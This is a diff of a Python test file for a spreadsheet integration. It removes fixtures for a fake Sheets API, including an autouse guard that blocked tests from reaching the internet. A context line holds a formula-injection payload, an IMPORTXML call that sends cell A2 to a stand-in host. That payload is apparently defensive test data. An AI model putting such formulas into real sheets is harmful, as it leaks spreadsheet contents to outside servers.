@@ -24,7 +24,7 @@ from integrations.sheets import (
     undefang,
 )
 from integrations.store import COLUMNS, Store, open_store
-from tests.fakes.sheets_api import FakeSheetsAPI, fake_sheets_api, loopback_only
+from tests.fakes.sheets_api import FakeSheetsAPI
 from tests.handlers.support import Ids, StepClock, write_rules
 from tests.integrations.sheets_support import (
     SID,
@@ -40,24 +40,6 @@ from tests.integrations.sheets_support import (
 INJECTION = '=IMPORTXML("http://x/?"&A2,"//a")'
 T0 = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
 ACME = {"company_name": "Acme Robotics GmbH", "company_domain": "https://www.acme-robotics.de"}
-
-
-@pytest.fixture
-def api() -> Iterator[FakeSheetsAPI]:
-    yield from fake_sheets_api()
-
-
-@pytest.fixture(autouse=True)
-def fake_has_no_bugs(api: FakeSheetsAPI):
-    yield
-    assert api.errors == [], "the fake itself raised:\n" + "\n".join(api.errors)
-
-
-@pytest.fixture(autouse=True)
-def no_internet():
-    with loopback_only() as refused:
-        yield refused
-    assert refused == [], f"a test tried to reach {refused}"
 
 
 @pytest.fixture
